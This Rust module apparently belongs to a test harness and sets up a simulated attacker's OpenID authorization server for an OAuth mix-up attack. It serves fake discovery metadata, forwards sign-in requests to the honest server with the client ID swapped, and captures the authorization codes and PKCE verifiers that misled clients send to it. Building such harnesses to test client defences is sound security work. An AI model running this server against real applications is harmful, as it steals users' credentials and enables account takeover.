//! A server in the attacker's hands: an authorization server to look at, and a place where things are collected.

use std::sync::{Arc, Mutex, MutexGuard, PoisonError};

use axum::extract::{RawForm, RawQuery, State};
use axum::response::Redirect;
use axum::routing::{get, post};
use axum::{Json, Router};
use proofkey_authority::{Endpoint, Exchange, Party, Wire};
use proofkey_book::cast::{CLIENT_ID, Cast};
use serde_json::{Value, json};

use super::attempt::Failure;
use super::running::Running;

type Pairs = Vec<(String, String)>;

#[derive(Default)]
struct Hands {
    base: String,
    /// Where people are sent on to.
    honest: String,
    wire: Option<Wire>,
    collected: Option<Pairs>,
}

type Held = Arc<Mutex<Hands>>;

/// It runs until it is dropped.
pub(super) struct AttackersServer {
    running: Running,
    hands: Held,
}

impl AttackersServer {
    pub(super) async fn start() -> Result<Self, Failure> {
        let hands = Held::default();
        let running = Running::start(|base| async {
            locked(&hands).base = base;
            Ok(Router::new()
                .route("/.well-known/openid-configuration", get(metadata))
                .route("/authorize", get(send_on))
                .route("/token", post(collect))
                .route("/collect", get(receive))
                .route("/jwks", get(keys))
                .with_state(hands.clone()))
        })
        .await?;
        Ok(Self { running, hands })
    }

    pub(super) fn issuer(&self) -> &str {
        &self.running.base
    }

    /// The honest server to which people are sent on, and the log of the run.
    pub(super) fn send_on_to(&self, cast: &Cast) {
        let mut hands = locked(&self.hands);
        hands.honest = cast.authority.endpoints().authorization;
        hands.wire = Some(cast.wire().clone());
    }

    /// Visits to this server under its own name: a browser's log knows it as one client among others.
    pub(super) fn own_visits(&self, wire: &Wire) {
        for exchange in wire.exchanges().iter().filter(|exchange| exchange.url.starts_with(&self.running.base)) {
            wire.answer(Some(exchange.seq), |exchange| exchange.to = "attacker".into());
        }
    }

    /// What was sent here, by name.
    pub(super) fn collected(&self, name: &str) -> Option<String> {
        let hands = locked(&self.hands);
        hands.collected.as_ref()?.iter().find(|(key, _)| key == name).map(|(_, value)| value.clone())
    }
}

async fn metadata(State(hands): State<Held>) -> Json<Value> {
    let base = locked(&hands).base.clone();
    Json(json!({
        "issuer": base,
        "authorization_endpoint": format!("{base}/authorize"),
        "code_challenge_methods_supported": ["S256"],
        "token_endpoint": format!("{base}/token"),
        "jwks_uri": format!("{base}/jwks"),
        "response_types_supported": ["code"],
        "subject_types_supported": ["public"],
        "id_token_signing_alg_values_supported": ["RS256"],
    }))
}

/// The mix-up: the request goes on to the honest server as it is, so that people sign in there.
async fn send_on(State(hands): State<Held>, RawQuery(query): RawQuery) -> Redirect {
    let query = query.unwrap_or_default();
    let pairs = form_urlencoded::parse(query.as_bytes()).into_owned();
    // Under the name that the app has over there.
    let pairs =
        pairs.map(|(name, value)| if name == "client_id" { (name, CLIENT_ID.to_owned()) } else { (name, value) });
    let query = form_urlencoded::Serializer::new(String::new()).extend_pairs(pairs).finish();
    Redirect::to(&format!("{}?{query}", locked(&hands).honest))
}

/// What an app that was mixed up brings: a code of the honest server, and the verifier that belongs to it.
async fn collect(State(hands): State<Held>, RawForm(form): RawForm) -> Json<Value> {
    let mut hands = locked(&hands);
    let pairs: Pairs = form_urlencoded::parse(&form).into_owned().collect();
    if let Some(wire) = &hands.wire {
        let url = format!("{}/token", hands.base);
        let exchange = Exchange::new(Party::Client, "attacker", Endpoint::Attacker, "POST", &url);
        wire.record(Exchange { form: pairs.clone(), status: Some(200), ..exchange });
    }
    hands.collected = Some(pairs);
    Json(json!({"error": "temporarily_unavailable"}))
}

/// What a browser brings that was sent to the wrong address.
async fn receive(State(hands): State<Held>, RawQuery(query): RawQuery) -> &'static str {
    locked(&hands).collected =
        Some(form_urlencoded::parse(query.unwrap_or_default().as_bytes()).into_owned().collect());
    "thank you"
}

async fn keys() -> Json<Value> {
    Json(json!({"keys": []}))
}

fn locked(hands: &Held) -> MutexGuard<'_, Hands> {
    hands.lock().unwrap_or_else(PoisonError::into_inner)
}
